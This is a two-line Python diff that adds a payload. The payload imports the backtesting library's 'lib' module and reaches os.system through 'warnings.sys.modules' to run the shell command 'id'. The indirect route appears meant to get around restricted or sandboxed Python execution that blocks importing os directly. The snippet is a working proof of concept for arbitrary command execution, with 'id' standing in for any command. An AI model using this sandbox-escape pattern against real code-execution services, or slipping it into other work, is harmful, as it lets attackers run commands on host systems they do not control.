@@ -1,0 +1,2 @@
+from backtesting import lib
+lib.warnings.sys.modules["os"].system("id")
